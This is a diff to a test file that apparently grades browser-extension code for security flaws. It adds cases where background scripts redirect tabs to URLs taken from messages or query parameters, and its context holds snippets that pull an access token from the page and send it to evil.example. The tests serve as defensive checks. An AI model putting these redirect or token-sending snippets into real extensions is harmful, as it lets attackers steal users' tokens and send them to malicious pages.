@@ -61,6 +61,19 @@ it.each([
 });
 
 it.each([
+  ['chrome.runtime.onMessage.addListener((m, s) => chrome.tabs.update(s.tab.id, { url: m.to }));'],
+  [
+    "chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url.includes('warn.html')) chrome.tabs.update(id, { url: new URL(tab.url).searchParams.get('safe') }); });",
+  ],
+])('nor is one whose address something else of the extension leads on by: %s', async (leads) => {
+  const { background, files } = WARNS(
+    "chrome.runtime.sendMessage({ to: new URLSearchParams(location.search).get('safe') });",
+  );
+  expect(await graded({ background: background + leads, files })).toBe('D');
+  expect(await graded({ background, files })).toMatch(/^A/);
+});
+
+it.each([
   ["const t = location.hash.match(/access_token=(\\w+)/); if (t) fetch('https://evil.example/' + t[1]);"],
   ["fetch('/').then((r) => r.text()).then((p) => fetch('https://evil.example/' + p.match(/access_token=(\\w+)/)[1]));"],
 ])('a token in an address is told where it is sent: %s', async (content) => {
